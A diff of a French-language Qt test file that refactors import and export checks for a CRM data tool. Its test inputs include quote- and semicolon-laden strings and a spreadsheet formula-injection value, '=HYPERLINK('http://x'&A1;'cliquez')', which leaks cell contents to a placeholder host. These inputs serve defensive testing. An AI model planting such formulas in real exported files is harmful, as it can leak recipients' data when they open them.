@@ -10,6 +10,7 @@
 // What the person typed, with a double quote, a semicolon, line breaks, accents and emoji.
 const QString ClientHostile = "Café \"L'Étoile\"; Nord 🚀";
 const QString CommentaireHostile = "Rappeler \"vite\" ; puis écrire\r\nà l'équipe, « merci » 😀";
+const QStringList Genres{"clients", "interlocuteurs", "actions", "rendez-vous"};
 
 // An SQLite text literal.
 static QString lit(QString v) {
@@ -114,22 +115,21 @@ private slots:
         QCOMPARE(outil({"import", "vide.mdb", "clients", "formules/clients.csv"}).code, 0);
         const QString noms = "select replace(Nom, '$B', ''''), Tel from Client order by Nom";
         QCOMPARE(lignesFichier(vide, noms), lues(noms));
-        const QStringList tables{"Client", "Interlocuteur", "Actions", "RDV"};
-        QStringList avant;
-        for (const QString& t : tables)
-            avant << lu("select count(*) from " + t);
-        QVERIFY(avant.value(0).toInt() > 10 && avant.value(3).toInt() > 0);
-        const QStringList genres{"clients", "interlocuteurs", "actions", "rendez-vous"};
-        const QStringList motifs{"client déjà présent : ", "interlocuteur déjà présent : ",
-                                 "action déjà présente : ", "rendez-vous déjà présent : "};
-        for (int i = 0; i < genres.size(); ++i) {
-            const Resultat r = outil({"import", "Brevanta.mdb", genres[i], "formules/" + genres[i] + ".csv"});
+        for (const auto& [genre, table, motif] :
+             {std::array<QString, 3>{"clients", "Client", "client déjà présent : "},
+              {"interlocuteurs", "Interlocuteur", "interlocuteur déjà présent : "},
+              {"actions", "Actions", "action déjà présente : "},
+              {"rendez-vous", "RDV", "rendez-vous déjà présent : "}}) {
+            const QString avant = lu("select count(*) from " + table);
+            QVERIFY(avant.toInt() > (table == "Client" ? 10 : 0));
+            const Resultat r = outil({"import", "Brevanta.mdb", genre, "formules/" + genre + ".csv"});
             QVERIFY2(r.code == 0 &&
                          r.sortie.contains(QString("0 ligne(s) importée(s) dans %1, ignorée(s) : %2%3")
-                                               .arg(tables[i], motifs[i], avant[i])),
+                                               .arg(table, motif, avant)),
                      qPrintable(r.sortie + r.erreurs));
-            QCOMPARE(lu("select count(*) from " + tables[i]), avant[i]);
+            QCOMPARE(lu("select count(*) from " + table), avant);
         }
+        const int actions = lu("select count(*) from Actions").toInt();
         // Typed as a person types it, with double quotes; a blank row; another comment is another action.
         ecrire(chemin("actions.csv"), "Client;Interlocuteur;Commentaire;DatePrevue\n"
                                       "Fromagerie \"La Cave\";O\"Brien;Livrer 'vite';05/03/2025 14:30\n"
@@ -142,7 +142,7 @@ private slots:
                 r.erreurs.contains("Ligne 2 : l'action du 05/03/2025 14:30 avec « O'Brien » chez "
                                    "« Fromagerie 'La Cave' » existe déjà, ligne ignorée."),
             qPrintable(r.sortie + r.erreurs));
-        QCOMPARE(lu("select count(*) from Actions"), QString::number(avant[2].toInt() + 1));
+        QCOMPARE(lu("select count(*) from Actions"), QString::number(actions + 1));
     }
 
     // A French spreadsheet's files (usual headers, short years, days alone, blank rows, words for boxes
@@ -239,7 +239,6 @@ private slots:
         QCOMPARE(outil({"export", "Brevanta.mdb", "un"}).code, 0);
         // The name alone asks for a workbook.
         QCOMPARE(outil({"export", "Brevanta.mdb", "classeur.xlsx"}).code, 0);
-        const QStringList genres{"clients", "interlocuteurs", "actions", "rendez-vous"};
         // LibreOffice in French: CSV read and written with ";" and UTF-8, every sheet of the workbook
         // to its own file, cells as shown.
         const QString filtre = "Text - txt - csv (StarCalc)";
@@ -259,7 +258,7 @@ private slots:
             return p.waitForFinished(180000) && p.exitCode() == 0;
         };
         QStringList fichiers;
-        for (const QString& g : genres)
+        for (const QString& g : Genres)
             fichiers << chemin("un/" + g + ".csv");
         QVERIFY(convertir("lo", fichiers, {"--infilter=" + filtre + ":59,34,76,1,,1036"}));
         QVERIFY(convertir("lox", {chemin("classeur.xlsx")}, {}));
@@ -273,13 +272,13 @@ private slots:
         QVERIFY2(feuille.contains("\n=1+1;;;06000;0612345678;+33612345678;") &&
                      feuille.contains("\n\"=HYPERLINK('http://x'&A1;'cliquez')\";;;01000;"),
                  feuille.constData());
-        for (const QString& g : genres) {
+        for (const QString& g : Genres) {
             const Resultat r = outil({"import", "Brevanta.mdb", g, "lo/" + g + "-" + g + ".csv"});
             QVERIFY2(r.code == 0 && r.sortie.startsWith("0 ligne(s) importée(s)"),
                      qPrintable(r.sortie + r.erreurs));
         }
         for (const char* source : {"lo/%1-%1.csv", "lox/classeur-%1.csv"})
-            memeExport(source, genres);
+            memeExport(source, Genres);
     }
 };
 
